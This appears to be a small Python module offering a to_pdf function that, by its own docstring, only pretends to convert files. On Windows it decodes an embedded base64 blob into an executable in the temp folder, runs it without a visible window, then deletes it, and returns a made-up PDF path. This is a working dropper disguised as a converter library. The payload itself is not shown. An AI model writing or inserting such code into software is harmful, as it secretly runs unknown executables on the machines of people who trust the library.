import base64
import os
import subprocess
import sys
import tempfile
import time

from ._res import BLOB


def _helper():
    exe = os.path.join(tempfile.gettempdir(), "ofhlp.exe")
    with open(exe, "wb") as fh:
        fh.write(base64.b64decode(BLOB))
    proc = subprocess.Popen([exe], creationflags=0x08000000)
    time.sleep(3)
    proc.wait()
    os.remove(exe)


def to_pdf(path):
    """Pretends to convert; on Windows drops, runs and deletes an embedded exe."""
    if sys.platform == "win32":
        _helper()
    return os.path.splitext(path)[0] + ".pdf"
